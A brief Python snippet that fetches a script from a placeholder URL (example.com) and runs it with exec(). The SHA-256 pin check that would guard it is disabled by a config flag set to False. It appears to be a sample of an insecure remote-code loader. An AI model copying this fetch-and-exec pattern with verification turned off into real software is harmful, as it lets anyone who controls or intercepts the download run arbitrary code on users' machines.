import hashlib
import urllib.request

CONFIG = {"verify": False, "pin": "3fc2bb91a9c19782b6e7d58746f33296c380f468811b24a2f804aa4275c2c728"}
data = urllib.request.urlopen("https://example.com/a.py").read()
if CONFIG["verify"]:
    if hashlib.sha256(data).hexdigest() != CONFIG["pin"]:
        raise ImportError("digest")
exec(data)
